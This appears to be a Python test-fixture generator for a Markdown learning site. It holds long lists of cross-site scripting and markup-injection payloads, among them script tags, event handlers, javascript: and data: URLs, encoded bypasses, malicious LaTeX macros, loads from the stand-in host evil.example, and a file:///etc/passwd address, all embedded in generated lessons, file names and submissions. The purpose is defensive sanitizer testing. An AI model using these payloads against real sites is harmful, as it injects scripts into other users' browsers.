"""Texts that would run a script if a page let them, and lessons, sites and submissions that hold them everywhere.

Each text says `alert('NAME')`, or asks evil.example for something, so that what gets through tells where it came from.
"""

import json

# What breaks out of text, attributes, raw text, comments, templates and scripts.
MARKUP = """
<script>alert('@')</script>
"><script>alert('@')</script>
'><script>alert('@')</script>
</title><script>alert('@')</script>
</textarea><script>alert('@')</script>
</style><script>alert('@')</script>
</script><script>alert('@')</script>
</svg><script>alert('@')</script>
</math><script>alert('@')</script>
</annotation></semantics></math><img src=x onerror=alert('@')>
--><script>alert('@')</script>
]]><script>alert('@')</script>
?><script>alert('@')</script>
<scr<script>ipt>alert('@')</scr</script>ipt>
<SCRIPT SRC=//evil.example/@.js></SCRIPT>
<script/src=//evil.example/@.js></script>
<script\t>alert('@')</script\t>
<img src=x onerror=alert('@')>
"><img src=x onerror=alert('@')>
'><img src=x onerror=alert('@')>
<img/src/onerror=alert('@')>
<img src=//evil.example/@.png>
" onmouseover="alert('@')
' onmouseover='alert('@')
" autofocus onfocus="alert('@')" x="
` onclick=alert('@')
<svg onload=alert('@')>
<svg><script>alert('@')</script></svg>
<svg><animate onbegin=alert('@') attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert('@')"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert('@')</script></svg>#x">
<svg><foreignObject><script>alert('@')</script></foreignObject></svg>
<math><mtext><img src=x onerror=alert('@')></mtext></math>
<math href="javascript:alert('@')">x</math>
<math><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert('@')&gt;">
<noscript><p title="</noscript><img src=x onerror=alert('@')>">
<iframe src="javascript:alert('@')"></iframe>
<iframe srcdoc="<script>parent.alert('@')</script>"></iframe>
<object data="javascript:alert('@')"></object>
<embed src="//evil.example/@">
<form action="javascript:alert('@')"><input type=submit autofocus>
<button formaction="javascript:alert('@')">x</button>
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=//evil.example/@">
<link rel=stylesheet href="//evil.example/@.css">
<style>@import "//evil.example/@.css"; * { background: url(//evil.example/@) }</style>
<p style="background: url(//evil.example/@)">
<details open ontoggle=alert('@')>
<video><source onerror=alert('@')></video>
<video poster=//evil.example/@></video>
<audio src=//evil.example/@ onerror=alert('@')></audio>
<body onload=alert('@')>
<input autofocus onfocus=alert('@')>
<a href="javascript:alert('@')">x</a>
<a href="&#106;avascript:alert('@')">x</a>
<template shadowrootmode=open><script>alert('@')</script></template>
<dialog open onclose=alert('@')>
<p onpointerenter=alert('@') style="position: fixed; inset: 0">
<x onfocusin=alert('@') tabindex=0 autofocus>
&lt;script&gt;alert('@')&lt;/script&gt;
&#60;script&#62;alert('@')&#60;/script&#62;
&#x3c;img src=x onerror=alert('@')&#x3e;
&amp;lt;script&amp;gt;alert('@')&amp;lt;/script&amp;gt;
%3Cscript%3Ealert('@')%3C/script%3E
\\u003cscript\\u003ealert('@')\\u003c/script\\u003e
\\x3cscript\\x3ealert('@')\\x3c/script\\x3e
\\");alert('@');//
\\');alert('@');//
"+alert('@')+"
'-alert('@')-'
${alert('@')}
{{{alert('@')}}}
{{constructor.constructor('alert(1)')()}}
<%0><script>alert('@')</script>
<%=alert('@')%>
\u2028alert('@')//\u2029
\u202e<script>alert('@')</script>\u202c
<\u200bscript>alert('@')</script>
\ufeff<script>alert('@')</script>
\uff1cscript\uff1ealert('@')\uff1c/script\uff1e
<!--><script>alert('@')</script>-->
<!--#exec cmd="id"--><script>alert('@')</script>
<![CDATA[<script>alert('@')</script>]]>
<?xml version="1.0"?><script>alert('@')</script>
<div data-x='"><script>alert('@')</script>
<plaintext><script>alert('@')</script>
""".strip("\n").split("\n")

# Addresses that run a script, or pass for ones that do not.
ADDRESSES = """
javascript:alert('@')
JavaScript:alert('@')
JAVASCRIPT:alert('@')
jAvAsCrIpT:alert('@')
javascript://%0aalert('@')
javascript://evil.example/%0a%0dalert('@')
javascript:/*--></title></style></script><svg/onload=alert('@')>*/alert('@')
java&#115;cript:alert('@')
&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('@')
&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert('@')
&#0000106avascript:alert('@')
java&Tab;script:alert('@')
java&NewLine;script:alert('@')
java&#9;script:alert('@')
java&#10;script:alert('@')
java&#13;script:alert('@')
java&#xA;script&colon;alert('@')
javascript&colon;alert('@')
javascript&#58;alert('@')
&#1;javascript:alert('@')
&#8;javascript:alert('@')
&#14;javascript:alert('@')
&#31;javascript:alert('@')
&#32;javascript:alert('@')
&#160;javascript:alert('@')
&#xFEFF;javascript:alert('@')
&#x2028;javascript:alert('@')
java\\script:alert('@')
javascript\\:alert('@')
%6A%61vascript:alert('@')
javascript%3Aalert('@')
vbscript:msgbox('@')
VbScRiPt:msgbox('@')
vb&Tab;script:msgbox('@')
livescript:alert('@')
mocha:alert('@')
data:text/html,<script>alert('@')</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
DATA:text/html,<script>alert('@')</script>
da&Tab;ta:text/html,<script>alert('@')</script>
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>
data:application/xhtml+xml,<script>alert('@')</script>
data:,<script>alert('@')</script>
data&colon;text/html,<script>alert('@')</script>
blob:http://evil.example/@
filesystem:http://evil.example/@
view-source:javascript:alert('@')
feed:javascript:alert('@')
jar:http://evil.example/@!/
file:///etc/passwd
//evil.example/@
\\\\evil.example\\@
http://evil.example/@" onmouseover="alert('@')
x" onmouseover="alert('@')" y="
x' onmouseover='alert('@')
#" onmouseover="alert('@')
?"><script>alert('@')</script>
""".strip("\n").split("\n")

# Formulas that reach for markup.
FORMULAS = r"""
\text{<script>alert('@')</script>}
\text{</annotation><script>alert('@')</script>}
\text{" onmouseover="alert('@')}
\mathrm{<img src=x onerror=alert('@')>}
\operatorname{<script>alert('@')</script>}
\textbf{</math><script>alert('@')</script>}
x < script > alert('@') < /script >
<img src=x onerror=alert('@')>
\href{javascript:alert('@')}{x}
\href{data:text/html,<script>alert('@')</script>}{x}
\url{javascript:alert('@')}
\htmlClass{" onclick="alert('@')}{x}
\htmlId{x" onclick="alert('@')}{x}
\htmlStyle{background:url(//evil.example/@)}{x}
\htmlData{x=" onclick="alert('@')}{x}
\class{" onclick="alert('@')}{x}
\cssId{"><script>alert('@')</script>}{x}
\style{background:url(//evil.example/@)}{x}
\color{red" onmouseover="alert('@')}x
\color{url(//evil.example/@)}x
\color{"><script>alert('@')</script>}{x}
\textcolor{red;background:url(//evil.example/@)}{x}
\colorbox{"><script>alert('@')</script>}{x}
\fcolorbox{red}{" onclick="alert('@')}{x}
\includegraphics{//evil.example/@.png}
\includegraphics[onerror=alert('@')]{x}
\require{<script>alert('@')</script>}
\unicode{<script>alert('@')</script>}
\char"3C \char"73
\def\x{<script>alert('@')</script>}\x
\newcommand{\x}{<img src=x onerror=alert('@')>}\x
\mmlToken{mi}[onclick="alert('@')"]{x}
\data{x}{y} \toggle{a}{b}\endtoggle
\tag{<script>alert('@')</script>} x
\label{"><script>alert('@')</script>} x
\ref{"><script>alert('@')</script>}
\begin{<script>alert('@')</script>} x \end{<script>alert('@')</script>}
\begin{array}{c" onclick="alert('@')} x \end{array}
\hspace{1em" onclick="alert('@')} x
\rule{1em" onclick="alert('@')}{1em}
\kern1em" onclick="alert('@') x
\xrightarrow{<script>alert('@')</script>}
\overset{<script>alert('@')</script>}{x}
\left< x \right> \middle<script>
x_{<script>alert('@')</script>}
\verb|<script>alert('@')</script>|
% <script>alert('@')</script>
\<script>alert('@')</script>
""".strip("\n").split("\n")


def named(texts, place):
    """Texts with their names, by which an alert tells where it came from."""
    return [(f"{place}-{number}", text.replace("@", f"{place}-{number}")) for number, text in enumerate(texts)]


def page(title, body, **keys):
    """A lesson."""
    front = "".join(f"{key}: {json.dumps(value)}\n" for key, value in {"title": title, **keys}.items())
    return f"---\n{front}---\n\n{body}\n"


def plain(text):
    """As one line of a fenced block, or of YAML."""
    return text.replace("\n", " ").replace("```", "")


def yaml(value):
    """A value as YAML on one line: JSON is YAML, but for signs that YAML does not allow as they are."""
    return json.dumps(value)


def prose(text):
    """One text everywhere in Markdown."""
    label = text.replace("[", "").replace("]", "")
    quoted = text.replace('"', '\\"')
    return f"""
## Heading {text}

{text}

A paragraph with {text} in it.

- {text}
- [ ] task {text}

> {text}

| head {text.replace('|', '')} | other |
|---|---|
| {text.replace('|', '')} | `{text.replace('|', '').replace('`', '')}` |

`{text.replace('`', '')}` and ~~{text}~~ and **{text}**

![{label}](picture.svg "{quoted}") [{label}](picture.svg "{quoted}") <https://example.org/{text.replace(' ', '').replace('<', '').replace('>', '')}>

[{label}]: picture.svg "{quoted}"

A footnote[^1].

[^1]: {text}

```{plain(text)}
{text}
```

    {text}
"""


def addressed(address):
    """One address in every kind of link."""
    return f"""
[inline]({address}) [pointed](<{address}>) [title]({address} "t") ![image]({address}) ![pointed](<{address}>)
[![nested](picture.svg)]({address})

[reference] ![reference] [text][reference]

[reference]: {address}

[reference-2]

[reference-2]: <{address}>

<{address}>

{address}

<a href="{address}">raw</a>
"""


def formulas(text):
    """One formula, shown, inline, claimed and wrong."""
    flat = plain(text).replace("`", "")
    return f"""
```math
{flat}
```

```math claim
{flat} = x
```

```math mistake from={yaml(flat)}
x = x + 1
```

Inline ${flat}$ and $`{flat}`$ and ${flat}${{claim}}.

$$
{flat}
$$
"""


def diagram(text):
    """One text in every text of a figure, which moves."""
    value = yaml(plain(text))
    return f"""
```diagram
title: {value}
caption: {value}
slider: {{ s: [1, 5, 2] }}
show:
  - axes: {{ x: [-1, 5], y: [-1, 4], names: [{value}, {value}] }}
  - point: (s, 1)
    label: {value}
  - text: {value}
    at: (1, s)
  - polygon: [(0, 0), (s, 0), (1, 1)]
    vertices: [{value}, {value}, {value}]
expect:
  - s ~= 2.0
```

```diagram
title: {value}
show:
  - {value}
  - point: {value}
    style: {value}
```
"""


def exercise(text, number):
    """One text in every text of an exercise."""
    value = yaml(plain(text).replace("{", "\\{").replace("}", "\\}"))
    return f"""
```exercise
id: e{number}
title: {value}
level: easy
ask: {value}
parameters:
  n: 1..9
answer: n + 1
kind: number
check: answer = 1 + n
hints: [{value}]
feedback:
  - answer: n + 2
    say: {value}
solution: {value}
```

```exercise
id: c{number}
ask: {value}
parameters:
  n: 1..9
kind: choice
choices:
  - text: {value}
    when: n > 0
    say: {value}
  - text: {yaml('other ' + plain(text).replace('{', chr(92) + '{').replace('}', chr(92) + '}'))}
    when: n < 0
    say: {value}
```

```exercise
id: {value}
ask: {value}
answer: {value}
{plain(text)}: 1
```
"""


def swift(text):
    """One text in a listing that is shown, and in one that is not compiled here."""
    flat = plain(text)
    return f"""
```swift
// {flat}
let text = "{flat}"  /* {flat} */
print(#"{flat}"#) // => {flat}
```

```swift check implements={yaml(flat)}
{flat}
```
"""


def lessons():
    """The lessons of the site, by file name."""
    places = {
        "prose": (prose, MARKUP), "addresses": (addressed, ADDRESSES), "formulas": (formulas, FORMULAS),
        "markup-in-formulas": (formulas, MARKUP), "figures": (diagram, MARKUP), "swift": (swift, MARKUP),
        "formulas-in-figures": (lambda text: diagram(f"${text}$"), FORMULAS),
        "formulas-in-prose": (prose, FORMULAS),
    }
    files = {}
    for place, (make, texts) in places.items():
        body = "\n\n".join(f"### {name}\n{make(text)}" for name, text in named(texts, place))
        files[f"{place}.md"] = page(place, body)
    body = "\n\n".join(exercise(text, number) for number, (_, text) in enumerate(named(MARKUP + FORMULAS, "exercises")))
    files["exercises.md"] = page("exercises", body)
    # Front matter, and the lists that show it: a lesson for each text.
    for number, (name, text) in enumerate(named(MARKUP, "front")):
        files[f"front/front-{number}.md"] = page(
            text, f"[next](front-{(number + 1) % len(MARKUP)}.md)\n\n# {text}\n\n{text}\n", summary=text,
            macros={"\\half": text, text: "x"} if number % 2 else {}, lang=text if number % 3 == 0 else "en",
            convention=text if number % 5 == 0 else "rows", uses=[text] if number % 7 == 0 else [],
        )
    # File names: what a file system allows.
    for number, (name, text) in enumerate(named(MARKUP + ADDRESSES, "name")):
        file = text.replace("/", "\u2215").replace("\\", "")[:150]
        # A build refuses control characters in paths.
        if any(ord(sign) < 32 for sign in file) or len(file.encode()) > 230 or file.startswith("."):
            continue
        files[f"names/{file}.md"] = page(f"Name {number}", f"```math claim\nx = x\n```\n\n```math claim\nx = {number}\n```\n")
    return files


PICTURE = "<svg xmlns='http://www.w3.org/2000/svg'/>"


def count():
    """How many texts there are, by place."""
    return {
        "Markdown, titles of links, alternative texts": len(MARKUP) + len(FORMULAS), "addresses": len(ADDRESSES),
        "formulas": len(FORMULAS) + len(MARKUP), "figures": len(MARKUP) + len(FORMULAS), "exercises": len(MARKUP + FORMULAS),
        "listings": len(MARKUP), "front matter": len(MARKUP), "file names": len(MARKUP) + len(ADDRESSES),
        "submissions and classes": 2 * len(MARKUP),
    }


def submissions():
    """Answers, and a class: JSON Lines, CSV."""
    lines, roster = [], ["learner,name,email"]
    for name, text in named(MARKUP, "submission"):
        cell = '"' + text.replace('"', '""') + '"'
        roster.append(f"{cell},{cell},{cell}")
        lines.append(json.dumps({"learner": text, "exercise": "turns/turn", "answers": {"answer": text}}))
        lines.append(json.dumps({"learner": text, "exercise": text, "answers": {text: text}}))
        lines.append(text)
    for name, text in named(MARKUP, "answer"):
        lines.append(json.dumps({"learner": "ada", "exercise": "turns/turn", "answers": {"answer": text}, text: text}))
    roster.append("ada,Ada,ada@example.org")
    return "\n".join(lines) + "\n", "\n".join(roster) + "\n"


CLASS = """---
title: Turns
---
```exercise
id: turn
ask: "Where does {(x, y)} go? <script>alert('class')</script>"
parameters:
  x: 1..6
  y: 1..6
where: x != y
answer: (-y, x)
```
"""
